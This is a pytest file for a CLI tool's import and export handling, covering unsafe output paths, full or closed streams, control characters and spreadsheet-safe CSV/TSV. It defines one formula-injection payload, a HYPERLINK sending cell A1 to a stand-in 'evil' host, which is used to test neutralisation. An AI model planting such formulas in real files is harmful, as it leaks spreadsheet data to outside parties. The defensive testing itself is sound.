"""Files in and out (issue 15, part A): the one output-file writer, the one input reader, stdout that
cannot be written, spreadsheet-safe CSV/TSV, control characters, and the one instant format.

Every test that touches the database runs on SQLite and on the real PostgreSQL the suite starts.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from unittest import mock

import pytest

from bapp_cli.services.transfer import formats
from tests.conftest import REPO, Bapp

EVIL = '=HYPERLINK("http://evil/?"&A1,"Click")'


def clients_in(bapp: Bapp) -> list[dict[str, object]]:
    result = bapp("export", "clients", "--format", "jsonl")
    assert result.exit_code == 0, result.stderr
    return [json.loads(line) for line in result.stdout.splitlines()]


def write_csv(path: Path, rows: list[tuple[str, str]]) -> Path:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["email", "name"])
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


@pytest.fixture
def umask_022() -> Iterator[None]:
    previous = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(previous)


# -- item 1: a rejects path that is the input ---------------------------------------------------------


def test_a_rejects_path_that_is_the_input_is_refused_before_reading(bapp: Bapp, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "rj.csv", [("ada@example.com", "Ada"), ("not-an-email", "Bad")])
    before = source.read_bytes()
    (tmp_path / "link.csv").symlink_to(source)
    os.link(source, tmp_path / "hard.csv")
    for rejects in (source, tmp_path / "link.csv", tmp_path / "hard.csv", Path(os.path.relpath(source))):
        result = bapp("import", "clients", str(source), "--continue-on-error", "--rejects", str(rejects))
        assert result.exit_code == 6, result.stderr
        assert f"--rejects: {rejects} is the input file" in result.stderr
        assert source.read_bytes() == before
    # the other way round: the input named through the link, the rejects by the file itself
    through_link = bapp(
        "import", "clients", str(tmp_path / "link.csv"), "--continue-on-error", "--rejects", str(source)
    )
    assert through_link.exit_code == 6 and source.read_bytes() == before
    assert clients_in(bapp) == []


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)  # the path's handling: no backend's part
@pytest.mark.parametrize("source", ["/dev/stdin", "-"])
def test_a_rejects_path_that_is_the_piped_input_is_refused_before_reading(bapp: Bapp, source: str) -> None:
    # Only regular files were checked once the config file's /dev/null was let through: `--rejects /dev/stdin`
    # with the input piped to /dev/stdin opened a writer onto the pipe it was reading, and hung until killed; with
    # the input `-` it still did (stdin was not checked at all)
    command = [sys.executable, "-m", "bapp_cli", "import", "clients", source, "--input-format", "csv"]
    ran = subprocess.run(
        [*command, "--continue-on-error", "--rejects", "/dev/stdin"],
        input=b"email,name\nada@example.com,Ada\nbad,Bad\n",
        env=bapp._environment(None),
        capture_output=True,
        cwd=REPO,
        timeout=60,
    )
    assert ran.returncode == 6, ran.stderr
    assert b"--rejects: /dev/stdin is the input file /dev/stdin" in ran.stderr
    assert clients_in(bapp) == []


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)  # the path's handling: no backend's part
@pytest.mark.parametrize("source", ["-", "in.csv"])
def test_rejects_to_stdout_are_refused_before_reading(bapp: Bapp, tmp_path: Path, source: str) -> None:
    # `--rejects -` wrote the rejected rows to stdout, where the summary goes too: CSV, then the JSON of --json, which
    # no reader could take apart, and the error said they were "in -"
    data = "email,name\nada@example.com,Ada\nbad,Bad\n"
    (tmp_path / "in.csv").write_text(data)
    path = source if source == "-" else str(tmp_path / source)
    options = ("--input-format", "csv", "--continue-on-error", "--rejects", "-", "--json")
    result = bapp("import", "clients", path, *options, stdin=data)
    assert result.exit_code == 6, result.stderr
    assert "--rejects: - is stdout, where the summary goes" in result.stderr
    assert result.stdout == ""
    assert clients_in(bapp) == []


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)  # the path's handling: no backend's part
def test_a_rejects_path_that_is_the_file_on_stdin_is_refused_before_reading(bapp: Bapp, tmp_path: Path) -> None:
    # `bapp import clients - --rejects rj.csv < rj.csv` wrote the rejects beside rj.csv and renamed them over it:
    # the input file was gone, replaced by its one bad row
    source = write_csv(tmp_path / "rj.csv", [("ada@example.com", "Ada"), ("not-an-email", "Bad")])
    before = source.read_bytes()
    command = [sys.executable, "-m", "bapp_cli", "import", "clients", "-", "--input-format", "csv"]
    for rejects in (source, Path("/dev/stdin")):
        with source.open("rb") as stdin:
            ran = subprocess.run(
                [*command, "--continue-on-error", "--rejects", str(rejects)],
                stdin=stdin,
                env=bapp._environment(None),
                capture_output=True,
                cwd=REPO,
                timeout=60,
            )
        assert ran.returncode == 6, ran.stderr
        assert f"--rejects: {rejects} is the input file /dev/stdin".encode() in ran.stderr
        assert source.read_bytes() == before
    assert clients_in(bapp) == []


def test_an_output_or_rejects_path_that_is_the_sqlite_database_is_refused(
    tmp_path: Path, sqlite_template: Path
) -> None:
    # Written beside and renamed over, a rejects file or an export would replace the database file itself:
    # --rejects even before the import's own commit, which then went into the unlinked file (all lost).
    # SQLite only: a PostgreSQL database is not a file an output path can name.
    database = tmp_path / "bapp.db"
    shutil.copyfile(sqlite_template, database)  # at head, as `db upgrade` leaves a new file
    bapp = Bapp(f"sqlite:///{database}", tmp_path / "home")
    source = write_csv(tmp_path / "in.csv", [("ada@example.com", "Ada"), ("not-an-email", "Bad")])
    (tmp_path / "db-link.json").symlink_to(database)
    before = database.read_bytes()
    attempts = [
        ("import", "clients", str(source), "--continue-on-error", "--rejects", str(database)),
        ("export", "clients", "-o", str(database), "--format", "json"),
        ("export", "clients", "-o", str(tmp_path / "db-link.json")),
    ]
    for command in attempts:
        result = bapp(*command)
        assert result.exit_code == 6, result.stderr
        assert "is the database bapp is using" in result.stderr and "writing it would destroy" in result.stderr
        assert database.read_bytes() == before
        assert clients_in(bapp) == []  # still a database, and the import wrote nothing


def test_stdout_redirected_to_the_sqlite_database_is_refused_as_its_path_is(tmp_path: Path) -> None:
    # `-o bapp.db` was refused while `bapp export all >> bapp.db` appended the backup to the database file (exit 0):
    # kept only until SQLite's next page overwrote it
    database = tmp_path / "bapp.db"
    bapp = Bapp(f"sqlite:///{database}", tmp_path / "home")
    assert bapp("db", "upgrade").exit_code == 0
    before = database.read_bytes()
    for kind, target in (("all", database), ("clients", tmp_path / "clients.json")):
        with target.open("ab") as stdout:
            command = [sys.executable, "-m", "bapp_cli", "export", kind]
            ran = subprocess.run(command, stdout=stdout, stderr=subprocess.PIPE, env=bapp._environment(None), cwd=REPO)
        if target == database:
            assert ran.returncode == 6 and b"- is the database bapp is using" in ran.stderr, ran.stderr
            assert database.read_bytes() == before
        else:  # any other file stdout is redirected to is written
            assert ran.returncode == 0 and json.loads(target.read_text()) == [], ran.stderr


def test_an_output_path_that_is_one_of_the_databases_own_files_is_refused_before_it_exists(
    tmp_path: Path, sqlite_template: Path
) -> None:
    # SQLite makes bapp.db-wal (and -shm, or -journal) as the command opens the database, and deletes it as the last
    # connection closes: an export to bapp.db-wal, refused only when that file was there already, said exit 0 and
    # left no file (SQLite deleted the export as its WAL); a sync or import holds bapp.db.<name>.lock with flock, and
    # an export renamed over it let a second one run beside the first.
    database = tmp_path / "bapp.db"
    shutil.copyfile(sqlite_template, database)  # at head, as `db upgrade` leaves a new file
    bapp = Bapp(f"sqlite:///{database}", tmp_path / "home")
    assert bapp("calendly", "sync", "--from-file", str(REPO / "examples/calendly/event_types.json")).exit_code == 0
    lock = tmp_path / "bapp.db.calendly-sync.lock"
    assert lock.is_file()
    source = write_csv(tmp_path / "in.csv", [("ada@example.com", "Ada"), ("not-an-email", "Bad")])
    before = database.read_bytes()
    for path in ("bapp.db-wal", "bapp.db-shm", "bapp.db-journal", lock.name):
        for command in (
            ("export", "clients", "-o", str(tmp_path / path), "--format", "csv"),
            ("import", "clients", str(source), "--continue-on-error", "--rejects", str(tmp_path / path)),
        ):
            result = bapp(*command)
            assert result.exit_code == 6, (command, result.stderr)
            assert "the database bapp is using" in result.stderr and "writing it would destroy" in result.stderr
            assert database.read_bytes() == before and clients_in(bapp) == []
    assert lock.read_bytes() == b"" and not (tmp_path / "bapp.db-journal").exists()


def test_the_journal_of_a_symlinked_database_is_the_journal_of_the_file_it_leads_to(tmp_path: Path) -> None:
    """SQLite follows a symlinked database to its file and keeps the journal beside that one (real.db-journal, never
    link.db-journal): an export to real.db-journal was exit 0, then deleted by the next command as a stale journal."""
    (tmp_path / "data").mkdir()
    database = tmp_path / "data" / "real.db"
    (tmp_path / "link.db").symlink_to(database)
    bapp = Bapp(f"sqlite:///{tmp_path / 'link.db'}", tmp_path / "home")
    assert bapp("db", "upgrade").exit_code == 0
    for path in ("real.db-journal", "real.db-wal"):
        result = bapp("export", "clients", "-o", str(database.parent / path), "--format", "csv")
        assert result.exit_code == 6 and "the database bapp is using" in result.stderr, result.stderr
        assert not (database.parent / path).exists()
    # the link's own name is no file SQLite uses: an export may be written there
    assert bapp("export", "clients", "-o", str(tmp_path / "link.db-journal"), "--format", "csv").exit_code == 0


# -- item 4: rejects that cannot be kept roll the import back -------------------------------------------


def test_rejects_that_cannot_be_written_roll_the_whole_import_back(bapp: Bapp, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "in.csv", [("ada@example.com", "Ada"), ("not-an-email", "Bad")])
    full = tmp_path / "full.csv"
    full.symlink_to("/dev/full")
    result = bapp("import", "clients", str(source), "--continue-on-error", "--rejects", str(full))
    assert result.exit_code == 74, result.stderr
    assert f"--rejects: cannot write {full}: No space left on device" in result.stderr
    assert "unexpected" not in result.stderr
    assert clients_in(bapp) == []  # the good row was not committed: its rejected neighbour would be lost
    assert full.is_symlink() and stat.S_ISCHR(os.stat(full).st_mode)
    # a directory as the rejects path is refused before anything is read or written
    folder = bapp("import", "clients", str(source), "--continue-on-error", "--rejects", str(tmp_path))
    assert folder.exit_code == 6 and "is a directory" in folder.stderr
    assert clients_in(bapp) == []
    kept = bapp("import", "clients", str(source), "--continue-on-error", "--rejects", str(tmp_path / "r.csv"))
    assert kept.exit_code == 3 and [client["email"] for client in clients_in(bapp)] == ["ada@example.com"]
    assert "not-an-email" in (tmp_path / "r.csv").read_text()


# -- item 2: what export -o writes to -----------------------------------------------------------------


def test_export_follows_a_symlink_and_keeps_the_mode_of_the_file_it_replaces(
    bapp: Bapp, tmp_path: Path, umask_022: None
) -> None:
    assert bapp("import", "clients", str(write_csv(tmp_path / "in.csv", [("ada@example.com", "Ada")]))).exit_code == 0
    target = tmp_path / "target.csv"
    target.write_text("stale\n")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    assert bapp("export", "clients", "-o", str(link)).exit_code == 0
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_text().startswith("id,email,name") and "ada@example.com" in target.read_text()
    private = tmp_path / "private.json"
    private.write_text("{}")
    private.chmod(0o600)
    group = tmp_path / "group.json"
    group.write_text("{}")
    group.chmod(0o640)
    for path, mode in ((private, 0o600), (group, 0o640)):
        assert bapp("export", "clients", "-o", str(path)).exit_code == 0
        assert stat.S_IMODE(path.stat().st_mode) == mode and json.loads(path.read_text())[0]["name"] == "Ada"
    backup = tmp_path / "backup.json"
    assert bapp("export", "all", "-o", str(backup)).exit_code == 0
    assert stat.S_IMODE(backup.stat().st_mode) == 0o600  # a backup holds everything: private from the start
    fresh = tmp_path / "fresh.csv"
    assert bapp("export", "clients", "-o", str(fresh)).exit_code == 0
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o644  # as `open()` under the umask would make it
    assert sorted(path.name for path in tmp_path.iterdir() if "partial" in path.name) == []


def test_export_to_a_fifo_writes_into_it_and_leaves_it_a_fifo(bapp: Bapp, tmp_path: Path) -> None:
    assert bapp("import", "clients", str(write_csv(tmp_path / "in.csv", [("ada@example.com", "Ada")]))).exit_code == 0
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = bapp("export", "clients", "-o", str(fifo))
    reader.join(timeout=30)
    if reader.is_alive():  # nothing ever opened the FIFO for writing: release the reader, then fail below
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        reader.join(timeout=30)
    assert result.exit_code == 0, result.stderr
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert received and b"ada@example.com" in received[0]


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)  # the path's handling: no backend's part
def test_dev_stdout_and_stderr_are_written_through_bapp_s_own_streams(bapp: Bapp, tmp_path: Path) -> None:
    # `-o /dev/stdout` resolved through /proc to a pipe's non-path (exit 6, 'No such file or directory'), or to
    # the file the shell redirected stdout to, which was replaced by rename: what the script wrote there
    # before was lost, and what it wrote after went to the unlinked file
    assert bapp("import", "clients", str(write_csv(tmp_path / "in.csv", [("ada@example.com", "Ada")]))).exit_code == 0
    command = [sys.executable, "-m", "bapp_cli", "export", "clients", "--format", "csv", "-o"]
    piped = subprocess.run([*command, "/dev/stdout"], env=bapp._environment(None), capture_output=True, cwd=REPO)
    assert piped.returncode == 0 and piped.stdout.startswith(b"id,email,name,"), piped.stderr
    assert b"ada@example.com" in piped.stdout
    log = tmp_path / "log.txt"
    for stream in ("/dev/stdout", "/dev/stderr", "/dev/fd/1"):
        script = f'echo before; "$@" {stream}; echo after'
        with open(log, "w") as out:
            ran = subprocess.run(
                ["sh", "-c", script, "sh", *command], env=bapp._environment(None), stdout=out, stderr=out, cwd=REPO
            )
        written = log.read_text()
        assert ran.returncode == 0, written
        assert written.startswith("before\nid,email,") and "ada@example.com" in written, (stream, written)
        assert written.endswith("after\n") and written.count("before") == 1, (stream, written)
    importing = [*command[:3], "import", "clients", "-", "--input-format", "csv"]
    rejects = subprocess.run(
        [*importing, "--continue-on-error", "--json", "--rejects", "/dev/stdout"],
        input=b"email,name\nbob@example.com,Bob\nbad,Bad\n",
        env=bapp._environment(None),
        capture_output=True,
        cwd=REPO,
    )
    assert rejects.returncode == 3, rejects.stderr
    assert rejects.stdout.startswith(b"email,name,error\nbad,Bad,") and b'"created": 1' in rejects.stdout


def test_export_to_a_full_device_is_exit_74_and_the_device_stays(bapp: Bapp, tmp_path: Path) -> None:
    assert bapp("import", "clients", str(write_csv(tmp_path / "in.csv", [("ada@example.com", "Ada")]))).exit_code == 0
    full = tmp_path / "full.json"
    full.symlink_to("/dev/full")
    result = bapp("export", "clients", "-o", str(full))
    assert result.exit_code == 74
    assert result.stderr.startswith(f"Error: --output: cannot write {full}: No space left on device")
    assert full.is_symlink() and stat.S_ISCHR(os.stat("/dev/full").st_mode)
    assert [path.name for path in tmp_path.iterdir() if "partial" in path.name] == []


# -- item 15: paths that cannot be written --------------------------------------------------------------


def test_paths_that_cannot_be_written_are_refused_naming_the_path(bapp: Bapp, tmp_path: Path) -> None:
    a_file = tmp_path / "plain.txt"
    a_file.write_text("keep me\n")
    cases = {
        str(tmp_path): "is a directory",
        f"{tmp_path}/new-folder/": "a directory name",
        f"{tmp_path}/new-folder/.": "a directory name",  # realpath drops the /.: it wrote a file new-folder
        str(a_file / "x.csv"): "Not a directory",
        str(tmp_path / "missing" / "x.csv"): "No such file or directory",
    }
    for path, reason in cases.items():
        result = bapp("export", "clients", "--format", "csv", "-o", path)
        assert result.exit_code == 6, (path, result.stderr)
        assert f"Error: --output: cannot write {path}: " in result.stderr and reason in result.stderr
        assert "unexpected" not in result.stderr
    assert a_file.read_text() == "keep me\n" and not (tmp_path / "new-folder").exists()


def test_an_immutable_or_read_only_file_is_refused_and_kept(bapp: Bapp, tmp_path: Path) -> None:
    locked = tmp_path / "locked.csv"
    locked.write_text("keep me\n")
    if os.geteuid() == 0:  # root writes through modes, not through the immutable flag
        subprocess.run(["chattr", "+i", str(locked)], check=True)
    else:
        locked.chmod(0o444)
    try:
        result = bapp("export", "clients", "-o", str(locked))
        assert result.exit_code == 6, result.stderr
        assert f"--output: cannot write {locked}: Permission denied" in result.stderr
        assert locked.read_text() == "keep me\n"
    finally:
        if os.geteuid() == 0:
            subprocess.run(["chattr", "-i", str(locked)], check=True)
    assert [path.name for path in tmp_path.iterdir() if "partial" in path.name] == []


# -- item 11: an extension bapp does not write ----------------------------------------------------------


def test_an_unknown_extension_is_exit_6_on_export_and_import(bapp: Bapp, tmp_path: Path) -> None:
    sheet = tmp_path / "x.xlsx"
    result = bapp("export", "clients", "-o", str(sheet))
    assert result.exit_code == 6 and f"cannot tell the format of '{sheet}' from its name" in result.stderr
    assert "--format csv|tsv|json|jsonl|toml" in result.stderr and not sheet.exists()
    sheet.write_text("email,name\nada@example.com,Ada\n")
    imported = bapp("import", "clients", str(sheet))
    assert imported.exit_code == 6 and "--input-format" in imported.stderr
    assert bapp("export", "clients", "-o", str(sheet), "--format", "csv").exit_code == 0
    assert sheet.read_text().startswith("id,email,name")
    # no extension at all (`-o /dev/stdout`, `-o backup`) still means JSON
    assert bapp("export", "clients", "-o", str(tmp_path / "backup")).exit_code == 0
    assert json.loads((tmp_path / "backup").read_text()) == json.loads(bapp("export", "clients").stdout)


# -- item 16: stdout that cannot be written -----------------------------------------------------------


def test_stdout_on_a_full_device_is_exit_74_with_a_clear_message(bapp: Bapp, tmp_path: Path) -> None:
    assert bapp("import", "clients", str(write_csv(tmp_path / "in.csv", [("ada@example.com", "Ada")]))).exit_code == 0
    commands = [("clients", "list"), ("export", "clients"), ("clients", "list", "--json")]
    commands += [("--version",), ("--help",), ("db",), ("clients", "list", "--help")]  # the launcher, help
    for args in commands:
        with open("/dev/full", "w") as full:
            completed = subprocess.run(
                [sys.executable, "-m", "bapp_cli", *args],
                env=bapp._environment(None),
                stdout=full,
                stderr=subprocess.PIPE,
                text=True,
                cwd=REPO,
                timeout=120,
            )
        assert completed.returncode == 74, (args, completed.stderr)
        assert completed.stderr.startswith("Error: cannot write to stdout: No space left on device\n"), completed.stderr
        assert "Hint: free some space" in completed.stderr or "Hint" not in completed.stderr, completed.stderr
        assert "Traceback" not in completed.stderr and "unexpected" not in completed.stderr


def test_stdout_that_fails_after_a_commit_says_the_change_stands_not_to_run_it_again(bapp: Bapp) -> None:
    # `clients add … > /dev/full` added the client, then said "free some space … and run the command again", which
    # was refused as a duplicate (exit 8); a booking made through Calendly would have been made twice
    result = bapp.process("clients", "add", "ada@example.com", "--name", "Ada", stdout="/dev/full")
    assert result.exit_code == 74, result.stderr
    assert result.stderr.splitlines() == [
        "Error: cannot write to stdout: No space left on device; what was committed stands",
        "Hint: free some space, or send the output elsewhere (a file, a pipe) before the next command",
    ]
    assert bapp("clients", "show", "ada@example.com", "--json").json()["name"] == "Ada"
    dry_run = bapp.process("clients", "add", "bob@example.com", "--dry-run", stdout="/dev/full")
    assert dry_run.exit_code == 74 and "committed" not in dry_run.stderr and "run the command again" in dry_run.stderr


def test_a_closed_pipe_ends_quietly_with_the_sigpipe_status(bapp: Bapp, tmp_path: Path) -> None:
    # each output well past a pipe's 64 KiB (TSV ~125 kB, the table ~160 kB) in a thousand rows: three thousand
    # short ones made the same bytes, but a table's cost is by the row (the test took 4× the CPU)
    name = "Client {}, whose long name fills the pipe sooner than a short one would"
    rows = [(f"client{number}@example.com", name.format(number)) for number in range(1000)]
    assert bapp("import", "clients", str(write_csv(tmp_path / "in.csv", rows))).exit_code == 0
    # `-o /dev/stdout` too: it said 'cannot write /dev/stdout: Broken pipe; nothing was kept' (exit 74), of data
    # the reader had partly read. A table is one write of the whole: under PYTHONUNBUFFERED (many container
    # images set it) the part the pipe did not take was dropped without an error, and the run ended 0
    for args, unbuffered in (
        (("clients", "list", "--format", "tsv"), None),
        (("export", "clients"), None),
        (("export", "clients", "-o", "/dev/stdout"), None),
        (("clients", "list", "--format", "table"), None),
        (("clients", "list", "--format", "table"), "1"),
        (("clients", "list", "--format", "tsv"), "1"),
    ):
        process = subprocess.Popen(
            [sys.executable, "-m", "bapp_cli", *args],
            env=bapp._environment({"PYTHONUNBUFFERED": unbuffered}),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            cwd=REPO,
        )
        assert process.stdout is not None and process.stderr is not None
        assert process.stdout.readline()  # like `| head -1`: one line, then the reader goes away
        process.stdout.close()
        stderr = process.stderr.read().decode()
        assert process.wait(timeout=120) == 141, (args, unbuffered, stderr)
        assert stderr == ""


@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)  # its lock holds a read half-way through
@pytest.mark.parametrize(
    ("stop", "code", "said"), [(signal.SIGINT, 130, "Interrupted"), (signal.SIGTERM, 143, "Terminated")]
)
def test_a_run_stopped_with_its_reader_gone_keeps_the_stop_s_code_and_word(
    bapp: Bapp, database_url: str, stop: int, code: int, said: str
) -> None:
    # `bapp export all | head`, stopped (Ctrl-C, systemd's SIGTERM) after its reader had gone: the rows still
    # buffered failed to flush before the stop was reported, and the run ended 141 without a word of the stop
    from sqlalchemy import text

    from bapp_cli.db.engine import make_engine
    from tests.cli.test_bookings_race import BLOCK_TIMEOUT, barrier_probe
    from tests.cli.test_import import _wait_for

    engine = make_engine(database_url)
    try:
        with engine.connect() as holder, barrier_probe(database_url, engine) as all_blocked:
            # the backup's last kind held back: the kinds before it are written (buffered) when the stop comes
            holder.execute(text("LOCK TABLE webhook_deliveries IN ACCESS EXCLUSIVE MODE"))
            process = bapp.popen("export", "all")
            _wait_for(lambda: all_blocked([process]), "the export to wait on the lock", BLOCK_TIMEOUT)
            assert process.stdout is not None and process.stderr is not None
            process.stdout.close()
            process.send_signal(stop)
            stderr = process.stderr.read()
            assert process.wait(timeout=60) == code, stderr
            holder.rollback()
    finally:
        engine.dispose()
    assert stderr == f"{said}; nothing was changed.\n"


def test_a_closed_stderr_keeps_the_run_s_exit_code(bapp: Bapp) -> None:
    # `bapp … 2>&1 | head -1`, its reader gone before the error's second line: the broken pipe raised while
    # the error was reported once ended the run as a crash (exit 1)
    for args, code in ((("bookings", "show", "BK-NOSUCH"), 7), (("clients", "list", "--limit", "x"), 2)):
        read_end, write_end = os.pipe()
        os.close(read_end)
        completed = subprocess.run(
            [sys.executable, "-m", "bapp_cli", *args],
            env=bapp._environment(None),
            stdout=subprocess.DEVNULL,
            stderr=write_end,
            cwd=REPO,
            timeout=120,
        )
        os.close(write_end)
        assert completed.returncode == code, args


@pytest.mark.parametrize(
    ("redirect", "args", "code", "said"),
    [
        # started without a stdout: output fails as on a closed descriptor, named (Python left sys.stdout None)
        (">&-", ("clients", "list"), 74, "Error: cannot write to stdout: Bad file descriptor"),
        (">&-", ("--version",), 74, "Error: cannot write to stdout: Bad file descriptor"),
        # stderr that cannot take the error: the run's own code stands
        ("2>&-", ("bookings", "show", "BK-NOSUCH"), 7, ""),
        ("2>/dev/full", ("bookings", "show", "BK-NOSUCH"), 7, ""),
    ],
)
def test_a_missing_or_full_standard_stream_is_not_a_crash(
    bapp: Bapp, redirect: str, args: tuple[str, ...], code: int, said: str
) -> None:
    script = f'exec "$0" -m bapp_cli "$@" {redirect}'
    completed = subprocess.run(
        ["sh", "-c", script, sys.executable, *args],
        env=bapp._environment(None),
        capture_output=True,
        text=True,
        cwd=REPO,
        timeout=120,
    )
    assert completed.returncode == code, completed.stderr
    assert completed.stderr.startswith(said) and "Traceback" not in completed.stderr
    # no stdout is not a full disk: the hint does not send the user to free space
    assert "space" not in completed.stderr, completed.stderr


def test_stdout_in_an_encoding_short_of_the_data_is_exit_74_naming_it(bapp: Bapp) -> None:
    assert bapp("clients", "add", "zoe@example.com", "--name", "Zoë 漢字").exit_code == 0
    for fmt in ("table", "csv", "json"):
        result = bapp.process("clients", "list", "--format", fmt, env={"PYTHONIOENCODING": "latin-1"})
        assert result.exit_code == 74, (fmt, result.stderr)  # was 1: UnicodeEncodeError
        # stderr is latin-1 too, so Python escapes the two characters the message names
        assert result.stderr.startswith(r"Error: cannot write to stdout: its encoding (latin-1) has no '\u6f22\u5b57'")
        assert "PYTHONIOENCODING=utf-8" in result.stderr


# -- item 7: spreadsheet-safe CSV and TSV ----------------------------------------------------------------


def test_formula_cells_are_neutralised_in_csv_and_tsv_and_imports_round_trip(bapp: Bapp, tmp_path: Path) -> None:
    names = [EVIL, "+44 20 7946 0000", "-minus", "@at", "'=already quoted", "Plain O'Neil"]
    rows = [(f"c{index}@example.com", name) for index, name in enumerate(names)]
    assert bapp("import", "clients", str(write_csv(tmp_path / "in.csv", rows)), "--raw").exit_code == 0
    stored = {client["email"]: client["name"] for client in clients_in(bapp)}
    assert stored == dict(rows)  # --raw on import: cells exactly as given

    expected = ["'" + EVIL, "'+44 20 7946 0000", "'-minus", "'@at", "''=already quoted", "Plain O'Neil"]
    for fmt in ("csv", "tsv"):
        exported = bapp("export", "clients", "--format", fmt)
        listed = bapp("clients", "list", "--format", fmt)
        for result in (exported, listed):
            reader = csv.DictReader(io.StringIO(result.stdout), delimiter="," if fmt == "csv" else "\t")
            assert [row["name"] for row in reader] == expected, (fmt, result.stdout)
        path = tmp_path / f"out.{fmt}"
        assert bapp("export", "clients", "-o", str(path)).exit_code == 0
        again = bapp("import", "clients", str(path), "--json")
        assert again.exit_code == 0 and again.json()["unchanged"] == len(names), again.stdout + again.stderr
    # JSON is for programs: untouched
    assert [client["name"] for client in json.loads(bapp("clients", "list", "--json").stdout)] == names

    raw = tmp_path / "raw.csv"
    assert bapp("export", "clients", "-o", str(raw), "--raw").exit_code == 0
    assert [row["name"] for row in csv.DictReader(raw.open(newline=""))] == names
    assert bapp("import", "clients", str(raw), "--raw", "--json").json()["unchanged"] == len(names)
    assert {client["email"]: client["name"] for client in clients_in(bapp)} == dict(rows)


def test_rejects_are_written_as_the_import_read_them(bapp: Bapp, tmp_path: Path) -> None:
    source = write_csv(tmp_path / "in.csv", [("not-an-email", "'" + EVIL), ("ada@example.com", "Ada")])
    rejects = tmp_path / "rejects.csv"
    result = bapp("import", "clients", str(source), "--continue-on-error", "--rejects", str(rejects))
    assert result.exit_code == 3, result.stderr
    rows = list(csv.DictReader(rejects.open(newline="")))
    assert rows[0]["name"] == "'" + EVIL  # neutralised again, and the same value once imported
    fixed = write_csv(tmp_path / "fixed.csv", [("bob@example.com", rows[0]["name"])])
    assert bapp("import", "clients", str(fixed)).exit_code == 0
    assert {client["email"]: client["name"] for client in clients_in(bapp)}["bob@example.com"] == EVIL


# -- item 5: control characters ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("nul.csv", 'email,name\nada@example.com,Ada\nbob@example.com,"Bo\x00b"\n'),
        ("esc.tsv", "email\tname\nada@example.com\tAda\nbob@example.com\tBo\x1b[31mb\n"),
        (
            "nul.jsonl",
            '{"email": "ada@example.com", "name": "Ada"}\n{"email": "bob@example.com", "name": "Bo\\u0000b"}\n',
        ),
        ("surrogate.json", '[{"email": "ada@example.com"},\n {"email": "bob@example.com", "name": "\\ud800"}]\n'),
        (
            "nul.toml",
            '[[clients]]\nemail = "ada@example.com"\n\n[[clients]]\nemail = "bob@example.com"\nname = "B\\u0000"\n',
        ),
    ],
)
def test_control_characters_in_text_are_refused_naming_line_and_field(
    bapp: Bapp, tmp_path: Path, name: str, content: str
) -> None:
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    result = bapp("import", "clients", str(path), "--json")
    assert result.exit_code == 6, result.stderr
    error = json.loads(result.stderr.splitlines()[-1])["error"]
    line = {"csv": 3, "tsv": 3, "jsonl": 2, "json": 2, "toml": 4}[name.rsplit(".", 1)[1]]
    assert error["details"] == [{"line": line, "field": "name", "message": error["details"][0]["message"]}], error
    assert "control character U+" in error["details"][0]["message"]
    assert clients_in(bapp) == []


def test_a_control_character_inside_a_json_cell_is_found(bapp: Bapp, tmp_path: Path) -> None:
    skills = tmp_path / "skills.csv"
    skills.write_text('slug,name,links\nok,OK,"[""https://a.example/\\u0007""]"\n', encoding="utf-8")
    result = bapp("import", "skills", str(skills))
    assert result.exit_code == 6 and "line 2, links[0]: holds the control character U+0007" in result.stderr


def test_a_backup_holding_a_nul_is_refused_with_its_line_not_a_crash(bapp: Bapp, tmp_path: Path) -> None:
    backup = tmp_path / "backup.json"
    assert bapp("export", "all", "-o", str(backup)).exit_code == 0
    document = json.loads(backup.read_text())
    document["clients"] = [
        {"id": 7, "email": "nul@example.com", "name": "N\x00L", "created_at": "2030-01-01T00:00:00Z"}
    ]
    backup.write_text(json.dumps(document, indent=1))
    result = bapp("import", "all", str(backup))
    assert result.exit_code == 6, result.stderr
    assert "field name: holds the control character U+0000" in result.stderr and "unexpected" not in result.stderr
    assert clients_in(bapp) == []


# -- item 26: one instant format --------------------------------------------------------------------------


def test_an_instant_reads_the_same_in_every_output(bapp: Bapp, tmp_path: Path) -> None:
    assert bapp("import", "clients", str(write_csv(tmp_path / "in.csv", [("ada@example.com", "Ada")]))).exit_code == 0
    exported = json.loads(bapp("export", "clients").stdout)[0]["created_at"]
    listed = json.loads(bapp("clients", "list", "--json").stdout)[0]["created_at"]
    as_csv = next(csv.DictReader(io.StringIO(bapp("clients", "list", "--format", "csv").stdout)))["created_at"]
    exported_csv = next(csv.DictReader(io.StringIO(bapp("export", "clients", "--format", "csv").stdout)))
    assert exported == listed == as_csv == exported_csv["created_at"]
    assert exported.endswith("Z") and "+" not in exported


# -- the one input reader: endless or odd inputs --------------------------------------------------------


def test_endless_or_odd_inputs_are_refused_not_read_forever(bapp: Bapp, tmp_path: Path) -> None:
    reasons = {
        "csv": "line 1: a line longer than 67108864 bytes",
        "tsv": "line 1: a line longer than 67108864 bytes",
        "jsonl": "line 1: a line longer than 67108864 bytes",
        "json": "line 1: malformed JSON: expected an array of objects or an object, found '\\x00'",
        "toml": "a TOML document larger than 64 MB",
    }
    for fmt, reason in reasons.items():
        result = bapp("import", "clients", "/dev/zero", "--input-format", fmt)
        assert result.exit_code == 6 and result.stderr.startswith(f"Error: {reason}"), (fmt, result.stderr)
    endless_value = tmp_path / "endless.json"
